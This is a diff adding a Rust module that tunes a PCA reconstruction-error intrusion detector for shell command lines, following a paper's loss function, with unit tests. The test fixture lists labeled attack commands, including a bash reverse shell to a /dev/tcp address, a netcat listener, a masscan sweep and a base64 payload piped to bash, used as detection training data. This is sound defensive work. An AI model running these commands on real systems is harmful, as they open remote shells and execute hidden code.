@@ -1,0 +1,371 @@
+//! Reconstruction-based tuning (paper Section IV-A, Eq. 2).
+//!
+//! The objective pushes intrusion-labeled command lines to high PCA
+//! reconstruction error while keeping the rest low:
+//!
+//! ```text
+//! L_Recons = −log ( Σᵢ L_PCA(tᵢ)·yᵢ / Σᵢ L_PCA(tᵢ) )
+//! ```
+//!
+//! Optimization alternates: (1) compute `W` by SVD on current embeddings;
+//! (2) fine-tune `f(·)` by backpropagation with `W` fixed; repeat. "In
+//! general, we found that repeating the process five times suffices",
+//! with 95% of PCA components kept.
+
+use crate::embed::{embed_lines, Pooling};
+use crate::pipeline::IdsPipeline;
+use anomaly::PcaDetector;
+use linalg::Matrix;
+use nn::{Optimizer, Sgd};
+use rand::seq::SliceRandom;
+use rand::Rng;
+
+/// Hyper-parameters for reconstruction-based tuning.
+#[derive(Debug, Clone, Copy)]
+pub struct ReconstructionConfig {
+    /// Alternating rounds of (fit `W`, tune `f`) — the paper uses 5.
+    pub rounds: usize,
+    /// Gradient steps per round.
+    pub steps_per_round: usize,
+    /// Learning rate for encoder fine-tuning.
+    pub lr: f32,
+    /// Minibatch size (positives are always included; see `fit`).
+    pub batch_size: usize,
+    /// PCA variance kept — the paper keeps 95%.
+    pub variance_ratio: f32,
+}
+
+impl Default for ReconstructionConfig {
+    fn default() -> Self {
+        ReconstructionConfig {
+            rounds: 5,
+            steps_per_round: 16,
+            lr: 5e-3,
+            batch_size: 64,
+            variance_ratio: 0.95,
+        }
+    }
+}
+
+impl ReconstructionConfig {
+    /// A setting matched to the scaled-down experiment models: at hidden
+    /// width 32, keeping 95% of variance leaves near-zero residuals, and
+    /// Eq. 2's gradient (∝ the residual) dies exactly on the positives
+    /// that need pushing. A 90% subspace keeps every residual alive; at
+    /// the paper's 768-dim scale this distinction vanishes.
+    pub fn scaled() -> Self {
+        ReconstructionConfig {
+            rounds: 6,
+            steps_per_round: 24,
+            lr: 5e-3,
+            batch_size: 64,
+            variance_ratio: 0.90,
+        }
+    }
+}
+
+/// The tuned detector: updated encoder (inside the pipeline) plus the
+/// final PCA projection.
+#[derive(Debug)]
+pub struct ReconstructionTuner {
+    detector: PcaDetector,
+    /// Eq. 2 loss after each round (for convergence inspection).
+    losses: Vec<f32>,
+}
+
+impl ReconstructionTuner {
+    /// Runs the alternating optimization, mutating the pipeline's
+    /// encoder in place and returning the final tuned scorer.
+    ///
+    /// `labels[i]` is the supervision label (`true` = intrusion) of
+    /// `lines[i]`.
+    ///
+    /// # Panics
+    ///
+    /// Panics if inputs are empty, lengths disagree, or no line is
+    /// labeled positive (Eq. 2 is undefined with Σyᵢ·L = 0 ∀θ).
+    pub fn fit<R: Rng + ?Sized>(
+        pipeline: &mut IdsPipeline,
+        lines: &[&str],
+        labels: &[bool],
+        config: &ReconstructionConfig,
+        rng: &mut R,
+    ) -> Self {
+        assert!(!lines.is_empty(), "no labeled lines to tune on");
+        assert_eq!(lines.len(), labels.len(), "one label per line");
+        let positives: Vec<usize> = labels
+            .iter()
+            .enumerate()
+            .filter(|(_, &y)| y)
+            .map(|(i, _)| i)
+            .collect();
+        assert!(
+            !positives.is_empty(),
+            "reconstruction tuning needs at least one positive label"
+        );
+        let negatives: Vec<usize> = labels
+            .iter()
+            .enumerate()
+            .filter(|(_, &y)| !y)
+            .map(|(i, _)| i)
+            .collect();
+
+        // W is fitted on the benign-labeled mass. In the paper's data
+        // intrusions are a vanishing fraction of the corpus, so the
+        // principal subspace is effectively benign-only; at reproduction
+        // scale the labeled set is positive-enriched, and fitting W on
+        // it would let the subspace absorb exactly the directions Eq. 2
+        // pushes intrusions along (see DESIGN.md).
+        let benign_lines: Vec<&str> = negatives.iter().map(|&i| lines[i]).collect();
+        let max_len = pipeline.max_len();
+        let mut optimizer = Sgd::new(config.lr, 0.9);
+        let mut detector = fit_pca(pipeline, &benign_lines, config.variance_ratio);
+        let mut losses = Vec::with_capacity(config.rounds);
+
+        for _ in 0..config.rounds.max(1) {
+            let mut round_loss = 0.0;
+            for _ in 0..config.steps_per_round.max(1) {
+                // Batch: a quarter positives, the rest negatives. Keeping
+                // negatives in the majority keeps S1/S0 well below 1, so
+                // the −log ratio actually produces gradient; an
+                // all-positive batch would make Eq. 2 vacuous.
+                let pos_quota = (config.batch_size / 4).clamp(1, positives.len());
+                let mut batch: Vec<usize> = Vec::with_capacity(config.batch_size);
+                for _ in 0..pos_quota {
+                    if let Some(&i) = positives.choose(rng) {
+                        batch.push(i);
+                    }
+                }
+                let neg_quota = config.batch_size.saturating_sub(batch.len()).max(1);
+                for _ in 0..neg_quota {
+                    if let Some(&i) = negatives.choose(rng) {
+                        batch.push(i);
+                    }
+                }
+
+                round_loss += tune_step(pipeline, lines, labels, &batch, &detector, max_len);
+                let encoder = pipeline.encoder_mut();
+                optimizer.step_visit(&mut |f| encoder.visit_params(&mut |p| f(p)));
+            }
+            losses.push(round_loss / config.steps_per_round.max(1) as f32);
+            // Re-fit W with the updated f(·) — the alternation.
+            detector = fit_pca(pipeline, &benign_lines, config.variance_ratio);
+        }
+
+        ReconstructionTuner { detector, losses }
+    }
+
+    /// Eq. 2 loss after each round.
+    pub fn losses(&self) -> &[f32] {
+        &self.losses
+    }
+
+    /// The final PCA projection fitted to the tuned encoder.
+    pub fn detector(&self) -> &PcaDetector {
+        &self.detector
+    }
+
+    /// Intrusion score of a line: PCA reconstruction error of its
+    /// mean-pooled embedding under the tuned model.
+    pub fn score(&self, pipeline: &IdsPipeline, line: &str) -> f32 {
+        let ids = pipeline.encode(line);
+        let emb = pipeline.encoder().embed_mean(&ids);
+        self.detector.score(&emb)
+    }
+
+    /// Scores many lines at once.
+    pub fn score_lines(&self, pipeline: &IdsPipeline, lines: &[&str]) -> Vec<f32> {
+        if lines.is_empty() {
+            return Vec::new();
+        }
+        let emb = embed_lines(
+            pipeline.encoder(),
+            pipeline.tokenizer(),
+            lines,
+            pipeline.max_len(),
+            Pooling::Mean,
+        );
+        self.detector.score_all(&emb)
+    }
+}
+
+fn fit_pca(pipeline: &IdsPipeline, lines: &[&str], variance_ratio: f32) -> PcaDetector {
+    let emb = embed_lines(
+        pipeline.encoder(),
+        pipeline.tokenizer(),
+        lines,
+        pipeline.max_len(),
+        Pooling::Mean,
+    );
+    PcaDetector::fit(&emb, variance_ratio)
+}
+
+/// One gradient accumulation step over `batch`; returns the batch loss.
+fn tune_step(
+    pipeline: &mut IdsPipeline,
+    lines: &[&str],
+    labels: &[bool],
+    batch: &[usize],
+    detector: &PcaDetector,
+    max_len: usize,
+) -> f32 {
+    // Forward all batch members, collecting mean embeddings + caches.
+    let mut embeddings: Vec<Vec<f32>> = Vec::with_capacity(batch.len());
+    let mut caches = Vec::with_capacity(batch.len());
+    let mut seq_lens = Vec::with_capacity(batch.len());
+    let token_seqs: Vec<Vec<u32>> = batch
+        .iter()
+        .map(|&i| pipeline.tokenizer().encode_for_model(lines[i], max_len))
+        .collect();
+    for ids in &token_seqs {
+        let (hidden, cache) = pipeline.encoder().forward_cached(ids);
+        let s = hidden.rows();
+        let mut mean = vec![0.0f32; hidden.cols()];
+        for r in 0..s {
+            for (m, v) in mean.iter_mut().zip(hidden.row(r)) {
+                *m += v / s as f32;
+            }
+        }
+        embeddings.push(mean);
+        caches.push(cache);
+        seq_lens.push(s);
+    }
+
+    // L_i and residuals r_i = x_i − reconstruct(x_i).
+    let mut l = Vec::with_capacity(batch.len());
+    let mut residuals = Vec::with_capacity(batch.len());
+    for x in &embeddings {
+        let rec = reconstruct(detector, x);
+        let r: Vec<f32> = x.iter().zip(&rec).map(|(a, b)| a - b).collect();
+        l.push(r.iter().map(|v| v * v).sum::<f32>());
+        residuals.push(r);
+    }
+    let s0: f32 = l.iter().sum();
+    let s1: f32 = l
+        .iter()
+        .zip(batch)
+        .map(|(li, &i)| if labels[i] { *li } else { 0.0 })
+        .sum();
+    if s1 <= 1e-12 || s0 <= 1e-12 {
+        return 0.0;
+    }
+    let loss = -(s1 / s0).ln();
+
+    // dL/dL_i = −yᵢ/S1 + 1/S0 ; dL_i/dx = 2·rᵢ ; mean-pool spreads 1/s.
+    pipeline.encoder_mut().zero_grad();
+    for (((&i, cache), residual), &s) in batch
+        .iter()
+        .zip(&caches)
+        .zip(&residuals)
+        .zip(&seq_lens)
+    {
+        let y = labels[i] as u32 as f32;
+        let dli = -y / s1 + 1.0 / s0;
+        let hidden_dim = residual.len();
+        let mut dhidden = Matrix::zeros(s, hidden_dim);
+        for r in 0..s {
+            let row = dhidden.row_mut(r);
+            for c in 0..hidden_dim {
+                row[c] = dli * 2.0 * residual[c] / s as f32;
+            }
+        }
+        pipeline.encoder_mut().backward(cache, &dhidden);
+    }
+    loss
+}
+
+fn reconstruct(detector: &PcaDetector, x: &[f32]) -> Vec<f32> {
+    detector.pca().reconstruct(x)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::pipeline::{IdsPipeline, PipelineConfig};
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+
+    fn labeled_set() -> (Vec<&'static str>, Vec<bool>) {
+        let benign = [
+            "ls -la /tmp",
+            "cd /var/log",
+            "docker ps -a",
+            "cat /etc/hosts",
+            "df -h",
+            "ps aux",
+            "grep -rn error /var/log/syslog",
+            "vim config.yaml",
+            "tail -f app.log",
+            "free -m",
+        ];
+        let attacks = [
+            "nc -lvnp 4444",
+            "masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt",
+            "bash -i >& /dev/tcp/10.0.0.1/9001 0>&1",
+            "echo QUJDRA== | base64 -d | bash -i",
+        ];
+        let mut lines = Vec::new();
+        let mut labels = Vec::new();
+        for _ in 0..3 {
+            for b in benign {
+                lines.push(b);
+                labels.push(false);
+            }
+        }
+        for a in attacks {
+            lines.push(a);
+            labels.push(true);
+        }
+        (lines, labels)
+    }
+
+    #[test]
+    fn tuning_raises_intrusion_reconstruction_error() {
+        let mut rng = StdRng::seed_from_u64(21);
+        let config = PipelineConfig::fast();
+        let dataset = config.generate_dataset(&mut rng);
+        let mut pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
+        let (lines, labels) = labeled_set();
+
+        let tuner = ReconstructionTuner::fit(
+            &mut pipeline,
+            &lines,
+            &labels,
+            &ReconstructionConfig {
+                rounds: 3,
+                steps_per_round: 6,
+                lr: 2e-3,
+                batch_size: 24,
+                variance_ratio: 0.95,
+            },
+            &mut rng,
+        );
+
+        // After tuning, labeled intrusions should out-score benign lines.
+        let attack = tuner.score(&pipeline, "nc -lvnp 4444");
+        let benign = tuner.score(&pipeline, "ls -la /tmp");
+        assert!(
+            attack > benign,
+            "attack error {attack} vs benign error {benign}"
+        );
+        assert_eq!(tuner.losses().len(), 3);
+    }
+
+    #[test]
+    #[should_panic(expected = "at least one positive")]
+    fn all_negative_labels_panic() {
+        let mut rng = StdRng::seed_from_u64(22);
+        let config = PipelineConfig::fast();
+        let dataset = config.generate_dataset(&mut rng);
+        let mut pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
+        let lines = vec!["ls", "pwd"];
+        let labels = vec![false, false];
+        let _ = ReconstructionTuner::fit(
+            &mut pipeline,
+            &lines,
+            &labels,
+            &ReconstructionConfig::default(),
+            &mut rng,
+        );
+    }
+}
